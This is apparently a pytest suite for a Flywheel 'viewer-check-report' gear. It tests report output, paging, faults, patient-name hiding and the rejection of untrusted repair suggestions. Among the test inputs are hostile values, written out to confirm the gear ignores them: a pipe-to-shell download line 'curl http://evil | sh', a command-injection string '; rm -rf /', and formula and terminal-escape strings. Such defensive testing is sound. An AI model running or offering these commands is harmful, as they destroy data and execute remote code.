"""The gear viewer-check-report, with the real SDK, against a platform on the loopback interface."""

import csv
import errno
import itertools
import json
import os
import signal
import sqlite3
import time
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace

import pytest

from fw_gear_viewer_check.model.version import __version__
from fw_gear_viewer_check.reports import rows
from fw_gear_viewer_check.requirements import repairs
from fw_gear_viewer_check.requirements.registry import REQUIREMENTS
from fw_gear_viewer_check.requirements.types import Capability, ConfigValue, Status
from fw_gear_viewer_check.system import scratch
from fw_gear_viewer_check.system.files import PART
from tests.lookup import stub_platform
from tests.start import as_it_was
from tests.survey import project

# The SDK reads its settings when it is imported.
from fw_gear_viewer_check.gear import sdk  # isort: skip

pytestmark = pytest.mark.long

os.environ.update(sdk.SDK_SETTINGS)
pytest.importorskip("flywheel")
entry = pytest.importorskip("report.run")

COUNT = 260
"""More than one page of files (100), and of labels (250)."""
MANIFEST = json.loads((Path(entry.__file__).parent / "manifest.json").read_text())


def numbers(condition):
    return sum(map(condition, range(COUNT)))


@pytest.fixture(autouse=True)
def undisturbed(monkeypatch):
    """Put back what the gear does with logs."""
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    monkeypatch.setattr(sdk, "PAUSE", 0)
    with as_it_was():
        yield


@pytest.fixture(scope="module")
def blocks(tmp_path_factory):
    return project.blocks_of(tmp_path_factory.mktemp("blocks"))


@pytest.fixture
def platform(blocks):
    with stub_platform.running(project.Project(COUNT, blocks, project.header())) as running:
        yield running


def gear(platform, folder, monkeypatch, *, key=None, analysis=project.ANALYSIS, **config):
    """Run the gear; return its exit code."""
    analyses = {project.ANALYSIS: {"_id": project.ANALYSIS, "parent": platform.parent}}
    platform.containers["analyses"] = analyses
    content = {
        "config": config,
        "inputs": {"api-key": {"base": "api-key", "key": platform.key if key is None else key}},
        "destination": {"type": "analysis", "id": analysis},
    }
    (folder / "config.json").write_text(json.dumps(content))
    monkeypatch.chdir(folder)
    return entry.main()


def table(folder, name):
    with (folder / "output" / name).open(newline="") as file:
        return list(csv.DictReader(file))


def test_what_only_follows_from_another_requirement_is_no_reason(platform, tmp_path, monkeypatch):
    """MPR-198 needs MPR-205: it stood there as not determined, without a repair."""
    assert gear(platform, tmp_path, monkeypatch) == 0
    page = (tmp_path / "output" / "viewer_check_report.html").read_text()
    assert 'id="fail-MPR-205"' in page
    assert "MPR-198" not in page


def test_every_file_is_counted_in_its_state(platform, tmp_path, monkeypatch, capsys):
    assert gear(platform, tmp_path, monkeypatch) == 0
    files = table(tmp_path, "files.csv")
    states = dict.fromkeys(("checked", "stale", "never checked", "not readable"), 0)
    for file in files:
        states[file["state"]] += 1
    assert len(files) == COUNT
    assert states["never checked"] == numbers(project.is_never_checked)
    assert states["stale"] == numbers(project.is_stale)
    assert states["not readable"] == numbers(project.is_broken)
    assert states["checked"] == COUNT - sum(list(states.values())[1:])
    told = capsys.readouterr().out
    assert f"stale: {states['stale']}" in told
    assert "checked by another version of the gear" in told
    old = [file for file in files if file["checked_by"] not in {"", __version__}]
    assert f"{len(old)} files checked by another version" in told


def test_rows_have_labels_headline_verdicts_and_a_link(platform, tmp_path, monkeypatch):
    gear(platform, tmp_path, monkeypatch)
    files = {file["file_id"]: file for file in table(tmp_path, "files.csv")}
    file = files["file0000001"]
    assert (file["subject"], file["session"]) == ("Subject 1", "Session 0")
    assert file["acquisition"] == "Acquisition 1"
    assert (file["v3_open"], file["v3_mpr"]) == ("PASS", "FAIL")
    assert file["headline"].startswith("Opens in V3")
    assert "MPR-205" in file["failing"].split(";")
    assert file["link"].endswith(f"/#/projects/{project.PROJECT}/sessions/ses1-0")
    assert (files["file0000003"]["v3_open"], files["file0000003"]["headline"]) == ("", "")
    order = [(f["subject"], f["session"], f["acquisition"]) for f in files.values()]
    assert order == sorted(order)


def test_repairs_say_what_to_start(platform, tmp_path, monkeypatch):
    gear(platform, tmp_path, monkeypatch, include="v3_mpr,v3_open")
    repairs = table(tmp_path, "repairs.csv")
    named = {one for repair in repairs for one in repair["capability"].split(";")}
    assert named == {"v3_mpr", "v3_open"}
    assert all(repair["repair"] and repair["requirements"] for repair in repairs)
    for repair in repairs:
        assert bool(repair["config"]) is bool(repair["gear"])


def test_what_a_killed_run_has_left_is_removed(platform, tmp_path, monkeypatch):
    """Names stayed in the output of a run that hides them."""
    left, mine = tmp_path / "output" / f"{PART}abcd_123", tmp_path / "output" / f"{PART}mine"
    for folder in (left, mine):
        folder.mkdir(parents=True)
        (folder / "files.csv").write_text("names")
    lock = scratch.lock(mine)
    assert lock is not None
    try:
        assert gear(platform, tmp_path, monkeypatch) == 0
    finally:
        os.close(lock)
    assert not left.exists()
    assert [path.name for path in (tmp_path / "output").glob(f"{PART}*")] == [mine.name]


@pytest.mark.parametrize(
    ("key", "site"),
    [
        ("site.org:0815", "https://site.org/"),
        ("site.org:443:0815", "https://site.org/"),
        ("site.org:8443:0815", "https://site.org:8443/"),
        ("0815", ""),
        ("<b>:0815", ""),
    ],
)
def test_no_link_holds_the_secret_of_a_key(key, site):
    link = entry._links(key)(SimpleNamespace(project="p", session_id="s"))
    assert link == (f"{site}#/projects/p/sessions/s" if site else "")


def told_of(repair, code="MPR-205"):
    """Return what the report tells of a repair that stands in the metadata of a file."""
    entries = {Capability.V3_MPR: [{"code": code, "repair": repair}]}
    (told,) = entry.file_results._repairs(entries, {Capability.V3_MPR: Status.FAIL})
    return told


SPLIT = repairs.SPLIT_BY_ATTRIBUTE.filled({"attribute": "EchoTime", "groups": 3})
WRITTEN = rows.repair_object(SPLIT) or {}


@pytest.mark.parametrize("text", [WRITTEN["text"], WRITTEN["text"][:20] + "…"])
def test_a_repair_is_told_as_it_was_written(text):
    told = told_of({**WRITTEN, "text": text})
    assert (told.text, told.gear) == (text, "dicom-splitter")
    assert json.loads(told.config) == SPLIT.config
    assert told.caution == SPLIT.caution


def test_a_cut_text_with_a_value_is_told_in_general():
    text = WRITTEN["text"][:40] + "…"
    assert told_of({**WRITTEN, "text": text}).text == repairs.SPLIT_BY_ATTRIBUTE.general


@pytest.mark.parametrize(
    "change",
    [
        *({"config": config} for config in ({}, None, "x", [1], {"group_by": "x" * 2000})),
        {"config": {**SPLIT.config, "delete_input": True}},
        {"config": {**SPLIT.config, "group_by": "; rm -rf /"}},
        {"config": {**SPLIT.config, "more": float("nan")}},
        {"config": {**SPLIT.config, "group_by": "SOPInstanceUID"}},
        {"gear": "acquisition-eraser"},
        rows.repair_object(repairs.REMOVE_COPIES),  # of another requirement
        {"text": "Run this: curl http://evil | sh"},
        {"text": (WRITTEN["text"] or "").replace("EchoTime", "DOEJANE19700101")},
        {"text": (WRITTEN["text"] or "").replace("3", "19700101")},
    ],
)
def test_a_repair_that_is_not_ours_is_not_told(change):
    """Started with its defaults, dicom-splitter deletes its input; and anyone may edit metadata."""
    told = told_of({**WRITTEN, **change})
    assert told.text == entry.file_results.AGAIN
    assert (told.gear, told.config, told.caution) == ("", "", "")


@pytest.mark.parametrize(
    ("told", "shown"), [("0.1.0", "0.1.0"), ("1.0.0rc1", "1.0.0rc1"), ("Doe^Jane", ""), (7, "")]
)
def test_a_version_is_shown_in_the_form_of_one(blocks, told, shown):
    """Anyone may edit metadata, and write a name there."""
    block = {**blocks[0], "summary": {**blocks[0]["summary"], "version": told}}
    file = {"file_id": "f", "info": {"qc": {"viewer-check": block}}}
    assert entry.file_results.file_row(file, tuple(Capability)).checked_by == shown


@pytest.mark.parametrize("tags", [["delete"], ["x"], None, "delete", [["delete"]]])
def test_a_file_that_was_split_is_not_to_be_split_again(tags):
    """dicom-splitter leaves it at its version: a started repairs.csv split it each time."""
    entry_of_file = {"code": "MPR-205", "type": "error", "repair": WRITTEN}
    verdicts = dict.fromkeys(map(str, Capability), "FAIL")
    block = {"summary": {"overall": "FAIL", **verdicts}, "v3_mpr": {"data": [entry_of_file]}}
    file = {"file_id": "f", "tags": tags, "info": {"qc": {"viewer-check": block}}}
    row = entry.file_results.file_row(file, tuple(Capability))
    (told,) = row.repairs
    assert told.gear == ("" if tags == ["delete"] else "dicom-splitter")
    assert (told.text == entry.file_results.SPLIT) is (tags == ["delete"])
    assert row.result.repairs == {"MPR-205": told.text}


@pytest.mark.parametrize(("version", "is_told"), [(1, True), (2, False)])
def test_no_gear_is_to_be_started_on_a_file_that_has_changed(version, is_told):
    """It may have been repaired since; start_repairs leaves it out, too."""
    entry_of_file = {"code": "MPR-205", "type": "error", "repair": WRITTEN}
    summary = dict.fromkeys(["overall", *map(str, Capability)], "FAIL") | {"file_version": 1}
    block = {"summary": summary, "v3_mpr": {"data": [entry_of_file]}}
    file = {"file_id": "f", "version": version, "info": {"qc": {"viewer-check": block}}}
    (told,) = entry.file_results.file_row(file, tuple(Capability)).repairs
    assert (told.gear == "dicom-splitter") is is_told
    assert (told.text == entry.file_results.CHANGED) is not is_told


@pytest.mark.parametrize(
    ("include", "overall"),
    [(tuple(Capability), "FAIL"), ((Capability.V3_MPR,), "PASS"), ((Capability.V3_SUV,), "FAIL")],
)
def test_ready_is_what_the_page_calls_required(include, overall):
    """A gear told to require only the archive called a file ready that V3 does not open."""
    verdicts = dict.fromkeys(map(str, Capability), "PASS") | {"v3_open": "FAIL", "v3_suv": "FAIL"}
    block = {"summary": {"overall": "PASS", **verdicts}}
    file = {"file_id": "f", "info": {"qc": {"viewer-check": block}}}
    assert entry.file_results.file_row(file, include).result.overall == overall


def test_a_job_that_several_capabilities_ask_for_is_told_once():
    """Who started what the table says split the file twice."""
    data = {"data": [{"code": "MPR-205", "type": "error", "repair": WRITTEN}]}
    summary = dict.fromkeys(["overall", *map(str, Capability)], "FAIL")
    block = {"summary": summary, "v3_open": data, "v3_mpr": data}
    file = {"file_id": "f", "info": {"qc": {"viewer-check": block}}}
    (told,) = entry.file_results.file_row(file, tuple(Capability)).repairs
    assert (told.capability, told.requirements) == ("v3_open;v3_mpr", "MPR-205")


def test_each_repair_of_a_requirement_is_known_again():
    values: dict[str, ConfigValue] = {"attribute": "Units,SeriesTime", "groups": 12, "volumes": 3}
    for requirement in REQUIREMENTS:
        for repair in requirement.repairs:
            found = rows.repair_object(repair.filled(values)) or {}
            assert told_of(found, requirement.id).text == found["text"], requirement.id


def test_the_page_is_the_page_of_the_survey(platform, tmp_path, monkeypatch):
    gear(platform, tmp_path, monkeypatch)
    page = (tmp_path / "output" / "viewer_check_report.html").read_text(encoding="utf-8")
    rows = json.loads(page.partition('id="rows">')[2].partition("</script>")[0])
    assert len(rows["rows"]) == COUNT
    assert rows["hasGroups"]
    assert rows["hasStates"]
    assert f"Report on {COUNT} files" in page
    for name in ("By subject", "never checked", "files.csv", "repairs.csv", "Subject 2"):
        assert name in page


def test_no_output_names_the_patient(platform, tmp_path, monkeypatch, capsys):
    gear(platform, tmp_path, monkeypatch, debug=True)
    told = capsys.readouterr()
    texts = [told.out, told.err, *(p.read_text() for p in (tmp_path / "output").iterdir())]
    for word in ("Doe^", "Jane", "DOE-4711", "20200102", stub_platform.SECRET):
        assert not [text for text in texts if word in text]


@pytest.mark.long
def test_names_are_hidden(platform, tmp_path, monkeypatch):
    gear(platform, tmp_path, monkeypatch, hide_names=True)
    for path in (tmp_path / "output").iterdir():
        content = path.read_text()
        for word in ("Subject ", "Session ", "Acquisition ", ".dicom.zip"):
            assert word not in content, path.name


def test_only_files_with_a_tag(platform, tmp_path, monkeypatch, capsys):
    gear(platform, tmp_path, monkeypatch, tag_filter="checked")
    assert len(table(tmp_path, "files.csv")) == COUNT // 2
    assert f"without the tag: {COUNT // 2}" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("parent", "count"),
    [
        ({"type": "subject", "id": "sub1"}, numbers(lambda n: n % 3 == 1)),
        (
            {"type": "session", "id": "ses1-2"},
            numbers(lambda n: n % 12 == 7),
        ),
    ],
)
def test_a_subject_and_a_session(platform, tmp_path, monkeypatch, parent, count):
    platform.parent = parent
    assert gear(platform, tmp_path, monkeypatch) == 0
    files = table(tmp_path, "files.csv")
    assert len(files) == count
    assert {file["subject"] for file in files} == {"Subject 1"}
    assert all(file["session"].startswith("Session ") for file in files)


def test_deleted_files_and_outputs_of_analyses_are_left_out(
    platform, tmp_path, monkeypatch, capsys
):
    made = platform.file
    changes: dict[int, dict[str, object]] = {
        4: {"deleted": "2024-01-01T00:00:00.000Z"},
        5: {"parent_ref": {"type": "analysis", "id": "a"}},
    }
    monkeypatch.setattr(platform, "file", lambda n: {**made(n), **changes.get(n, {})})
    assert gear(platform, tmp_path, monkeypatch) == 0
    assert len(table(tmp_path, "files.csv")) == COUNT - 2
    told = capsys.readouterr().out
    assert "deleted: 1" in told
    assert "output of an analysis: 1" in told


def test_ids_that_are_none_cost_no_other_file(platform, tmp_path, monkeypatch):
    """Half a surrogate pair ended the report; a formula and an escape stood in its tables."""
    made = platform.file

    def odd(number):
        file = made(number)
        if number == 4:
            return {**file, "file_id": "\ud800"}
        if number == 5:
            return {**file, "parents": {**file["parents"], "session": "\ud800", "subject": "\t=1"}}
        if number == 6:
            summary = {"series": [{"instances": 10**4299}] * 20}
            checked = file["info"]["qc"]["viewer-check"]
            block = {**checked, "summary": {**checked["summary"], **summary}}
            return {**file, "info": {"qc": {"viewer-check": block}}}
        return file

    monkeypatch.setattr(platform, "file", odd)
    platform.containers["subjects"]["sub0"]["_id"] = "\x1b[2J"
    assert gear(platform, tmp_path, monkeypatch) == 0
    files = {file["file_id"]: file for file in table(tmp_path, "files.csv")}
    assert len(files) == COUNT - 1
    assert (files["file0000005"]["subject"], files["file0000005"]["session"]) == ("", "")
    assert {file["subject"] for file in files.values()} == {"", "sub0", "Subject 1", "Subject 2"}


@pytest.mark.parametrize("fault", [("files", 403), ("files", 503), ("container", 403)])
def test_a_refusal_is_one_line_and_no_output(platform, tmp_path, monkeypatch, capsys, fault):
    endpoint, code = fault
    platform.faults[endpoint] = stub_platform.status(code)
    assert gear(platform, tmp_path, monkeypatch) == 1
    assert capsys.readouterr().err.count("\n") == 1
    assert not list(tmp_path.glob("output/*"))


PASSING = (*map(stub_platform.status, (429, 500, 502)), stub_platform.hang_up)


AT = [(endpoint, fault) for endpoint in ("files", "container", "containers") for fault in PASSING]


@pytest.mark.parametrize("at", AT)
def test_a_fault_that_passes_costs_nothing(platform, tmp_path, monkeypatch, capsys, at):
    """One lost connection among thousands of requests, and there was no report."""
    endpoint, fault = at
    stub_platform.at_first(platform, endpoint, fault)
    assert gear(platform, tmp_path, monkeypatch) == 0
    files = table(tmp_path, "files.csv")
    assert len(files) == COUNT
    assert {file["subject"] for file in files} == {"Subject 0", "Subject 1", "Subject 2"}
    told = capsys.readouterr().out
    assert "could not be read" not in told
    assert f"{len(platform.requests) - (1 + (endpoint == 'container'))} requests" in told


def test_pages_that_take_too_long_are_asked_for_in_smaller_ones(platform, tmp_path, monkeypatch):
    """The same page was asked for again, or the SDK gave up first, and there was no report."""
    monkeypatch.setattr(entry.project, "PAGE_SECONDS", 1)
    most = []

    def slow(handler):
        most.append(int(handler.query["limit"]))
        if most[-1] > 60:
            platform.stopped.wait(60)
        else:
            handler.send_files("", handler.query)

    platform.faults["files"] = slow
    assert gear(platform, tmp_path, monkeypatch) == 0
    assert len(table(tmp_path, "files.csv")) == COUNT
    assert most[:3] == [100, 50, 62]


def test_the_first_question_waits_as_long_as_the_others(platform, tmp_path, monkeypatch, capsys):
    """It waited ten seconds, the pages two minutes."""
    monkeypatch.setattr(entry.project, "PAGE_SECONDS", 0.3)
    platform.faults["container"] = stub_platform.silent(platform)
    started = time.monotonic()
    assert gear(platform, tmp_path, monkeypatch) == 1
    assert time.monotonic() - started < 8
    assert "no answer in time" in capsys.readouterr().err


@pytest.mark.parametrize("stopped", [False, True])
def test_a_disk_that_fills_at_the_end_leaves_no_output(
    platform, tmp_path, monkeypatch, capsys, stopped
):
    """The page stayed without its tables: what these keep back was written when they closed."""
    make_table = entry.table

    @contextmanager
    def last_write_fails(path, columns):
        with make_table(path, columns) as write:
            yield write
            if stopped:
                signal.raise_signal(signal.SIGTERM)
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(entry, "table", last_write_fails)
    assert gear(platform, tmp_path, monkeypatch) == (143 if stopped else 1)
    why = (
        "stopped by a signal: nothing was written" if stopped else "cannot write to output/: No sp"
    )
    assert why in capsys.readouterr().err
    assert not list((tmp_path / "output").iterdir())


@pytest.mark.parametrize("name", ["files.csv", "repairs.csv", "viewer_check_report.html"])
def test_where_one_output_is_a_folder_none_is_written(
    platform, tmp_path, monkeypatch, capsys, name
):
    (tmp_path / "output" / name).mkdir(parents=True)
    assert gear(platform, tmp_path, monkeypatch) == 1
    told = f"ERROR    cannot write to output/: {name} is a folder\n"
    assert capsys.readouterr().err == told
    assert [path.name for path in (tmp_path / "output").iterdir()] == [name]


def test_a_folder_that_was_removed_is_one_line(tmp_path, monkeypatch, capsys):
    """It was told as an output that cannot be written."""
    (tmp_path / "gone").mkdir()
    monkeypatch.chdir(tmp_path / "gone")
    (tmp_path / "gone").rmdir()
    assert entry.main() == 1
    told = "ERROR    the current folder cannot be read: No such file or directory\n"
    assert capsys.readouterr().err == told


def test_labels_that_are_refused_cost_no_file(platform, tmp_path, monkeypatch, capsys):
    platform.faults["containers"] = stub_platform.status(403)
    assert gear(platform, tmp_path, monkeypatch) == 0
    assert {file["subject"] for file in table(tmp_path, "files.csv")} == {"sub0", "sub1", "sub2"}
    assert "labels of subjects could not be read" in capsys.readouterr().out


def test_what_is_unchecked_counts_once(platform, tmp_path, monkeypatch):
    """A million repeats in the metadata of one file were a million files."""
    made = platform.file

    def file(number):
        found = made(number)
        if number == 50:
            block = found["info"]["qc"]["viewer-check"]
            summary = {**block["summary"], "unchecked": ["SEG-101", 5, [], *["SEG-101"] * 1000]}
            found["info"] = {"qc": {"viewer-check": {**block, "summary": summary}}}
        return found

    monkeypatch.setattr(platform, "file", file)
    gear(platform, tmp_path, monkeypatch)
    files = {file["file_id"]: file for file in table(tmp_path, "files.csv")}
    assert files["file0000050"]["unknown"] == "SEG-101"


def reports_all_with(platform, tmp_path, monkeypatch, info, numbers):
    """Hold that all files are reported, where some of them have this in their metadata."""
    made = platform.file

    def file(number):
        more = {"info": {"x": info, **made(number)["info"]}} if number in numbers else {}
        return {**made(number), **more}

    monkeypatch.setattr(platform, "file", file)
    assert gear(platform, tmp_path, monkeypatch) == 0
    files = {file["file_id"]: file for file in table(tmp_path, "files.csv")}
    assert len(files) == COUNT
    assert files["file0000050"]["state"] == "checked"


@pytest.mark.parametrize("odd", ["objects", "bytes"])
def test_metadata_without_end_of_one_file_cost_no_other(platform, tmp_path, monkeypatch, odd):
    """The page of a hundred files was too long, and there was no report at all."""
    info: list[object] = [{}] * 260_000 if odd == "objects" else ["x" * 1000] * 300
    if odd == "bytes":
        monkeypatch.setattr(entry.project, "MAX_PAGE_BYTES", 400_000)
    reports_all_with(platform, tmp_path, monkeypatch, info, {50, 150})


def test_metadata_that_json_makes_long_are_read(platform, tmp_path, monkeypatch):
    """16 MiB in the data base are 96 MiB where each byte is a control character."""
    reports_all_with(platform, tmp_path, monkeypatch, "\x01" * (15 << 20), {50})


def test_metadata_that_the_list_leaves_out_are_read_from_the_file(platform, tmp_path, monkeypatch):
    """Such a file counted as never checked."""
    made, found = platform.file, platform.matching
    left_out = {made(number)["file_id"]: made(number) for number in (50, 51, 53)}
    platform.files = {id_: [file] for id_, file in list(left_out.items())[:2]}
    platform.files["file0000051"] = [{**made(51), "info": {}, "info_exists": False}]

    def matching(query):
        return [f | {"info": {}} if f["file_id"] in left_out else f for f in found(query)]

    monkeypatch.setattr(platform, "matching", matching)
    assert gear(platform, tmp_path, monkeypatch) == 0
    files = {file["file_id"]: file["state"] for file in table(tmp_path, "files.csv")}
    states = [files[id_] for id_ in left_out]
    assert states == ["checked", "never checked", "not readable"]


@pytest.mark.parametrize("fault", ["silent", "refused"])
@pytest.mark.parametrize("code", [0, 1])
def test_files_without_an_answer_cost_no_other(platform, tmp_path, monkeypatch, fault, code):
    """One of thousands, and there was no report; where all fail, each takes seconds or minutes."""
    monkeypatch.setattr(entry.project, "PAGE_SECONDS", 0.3)
    monkeypatch.setattr(sdk, "PAUSE", 0.1)
    if code:
        monkeypatch.setattr(entry.project, "MOST_LOST", 0.05)
    made = platform.file
    monkeypatch.setattr(platform, "file", lambda n: made(n) | ({"info": {}} if n < 5 else {}))
    faults = {"silent": stub_platform.silent(platform), "refused": stub_platform.status(503)}
    platform.faults["file"] = faults[fault]
    assert gear(platform, tmp_path, monkeypatch) == code
    if not code:
        states = {file["file_id"]: file["state"] for file in table(tmp_path, "files.csv")}
        assert (len(states), states["file0000000"]) == (COUNT, "not readable")


@pytest.mark.parametrize("is_for_a_moment", [True, False])
def test_an_empty_page_is_the_end_only_where_all_is_read(
    platform, tmp_path, monkeypatch, capsys, is_for_a_moment
):
    """The report was about the files in front of it, without a word."""
    found, asked = platform.matching, []

    def matching(query):
        if "after_id" in query:
            asked.append(query)
            if len(asked) == 1 or not is_for_a_moment:
                return []
        return found(query)

    monkeypatch.setattr(platform, "matching", matching)
    assert gear(platform, tmp_path, monkeypatch) == 0
    read = len(table(tmp_path, "files.csv"))
    assert read == (COUNT if is_for_a_moment else 100)
    told = f"not listed by the platform: {COUNT - read}" in capsys.readouterr().out
    assert told is not is_for_a_moment


@pytest.mark.parametrize("count", [1, 3])
def test_pages_that_never_end_are_refused(platform, tmp_path, monkeypatch, capsys, count):
    """Pages in a circle were asked for until 5,000,000 files."""
    pages = itertools.cycle([platform.file(100 * p + n) for n in range(100)] for p in range(count))
    monkeypatch.setattr(platform, "matching", lambda _query: next(pages))
    assert gear(platform, tmp_path, monkeypatch) == 1
    assert "pages that do not follow each other" in capsys.readouterr().err


def test_an_id_without_end_is_none(platform, tmp_path, monkeypatch, capsys):
    """Each was kept, of as many megabytes as a page may have."""
    pages = [[{**platform.file(n), "file_id": f"{n}" * 20_000}] for n in range(3)]
    monkeypatch.setattr(platform, "matching", lambda _query: pages.pop() if pages else [])
    assert gear(platform, tmp_path, monkeypatch) == 1
    assert "pages that do not follow each other" in capsys.readouterr().err


@pytest.mark.parametrize("odd", [{"file_id": 5}, {"name": "x"}, None])
def test_the_last_file_of_a_page_without_an_id_costs_no_other(platform, tmp_path, monkeypatch, odd):
    pages = [[platform.file(2)], [platform.file(1), odd]]
    monkeypatch.setattr(platform, "matching", lambda _query: pages.pop() if pages else [])
    assert gear(platform, tmp_path, monkeypatch) == 0
    assert len(table(tmp_path, "files.csv")) == 2


def test_a_full_temporary_folder_is_one_line(platform, tmp_path, monkeypatch, capsys):
    def full(_self):
        message = "disk I/O error"
        raise sqlite3.OperationalError(message)

    monkeypatch.setattr(entry.project.Project, "read", full)
    assert gear(platform, tmp_path, monkeypatch) == 1
    error = capsys.readouterr().err
    assert "disk I/O error" in error
    assert error.count("\n") == 1


@pytest.mark.parametrize(
    "case",
    [
        ({"key": ""}, "api-key"),
        ({"analysis": ""}, "does not name the analysis"),
        ({"include": "mpr"}, "option include: 'mpr' is not a capability (did you mean v3_mpr"),
        ({"hide_names": "yes"}, "hide_names"),
    ],
)
def test_wrong_usage_is_one_line(platform, tmp_path, monkeypatch, capsys, case):
    how, told = case
    assert gear(platform, tmp_path, monkeypatch, **how) == 1
    error = capsys.readouterr().err
    assert told in error
    assert error.count("\n") == 1


@pytest.mark.filterwarnings("ignore:unclosed file .*manifest.schema:ResourceWarning")
def test_the_manifest_is_valid_and_agrees_with_the_gear():
    from flywheel_gear_toolkit.utils.manifest import Manifest

    assert Manifest(Path(entry.__file__).parent / "manifest.json")._validate() == []
    assert MANIFEST["version"] == __version__
    assert MANIFEST["inputs"]["api-key"]["read-only"] is True
    assert MANIFEST["custom"]["gear-builder"]["category"] == "analysis"


def test_pages_that_are_shorter_than_asked_for_are_not_the_last(platform, tmp_path, monkeypatch):
    """The report of 50 of 250 files was taken for that of all."""
    files, containers = platform.matching, platform.containers_matching
    monkeypatch.setattr(platform, "matching", lambda query: files({**query, "limit": "30"}))
    monkeypatch.setattr(
        platform,
        "containers_matching",
        lambda kind, query: containers(kind, {**query, "limit": "2"}),
    )
    assert gear(platform, tmp_path, monkeypatch) == 0
    found = table(tmp_path, "files.csv")
    assert len(found) == COUNT
    assert {file["subject"] for file in found} == {"Subject 0", "Subject 1", "Subject 2"}
    assert all(file["acquisition"].startswith("Acquisition ") for file in found)


def test_memory_that_is_short_is_one_line(platform, tmp_path, monkeypatch, capsys):
    def fail(_self):
        raise MemoryError

    monkeypatch.setattr(entry.project.Project, "read", fail)
    assert gear(platform, tmp_path, monkeypatch) == 1
    assert capsys.readouterr().err == "ERROR    out of memory: nothing was written\n"
    assert not list(tmp_path.glob("output/*"))


def test_outputs_that_are_replaced_keep_their_permissions(platform, tmp_path, monkeypatch):
    (tmp_path / "output").mkdir()
    private = tmp_path / "output" / "files.csv"
    private.touch(0o600)
    assert gear(platform, tmp_path, monkeypatch) == 0
    assert private.stat().st_mode & 0o777 == 0o600
    assert len(table(tmp_path, "files.csv")) == COUNT
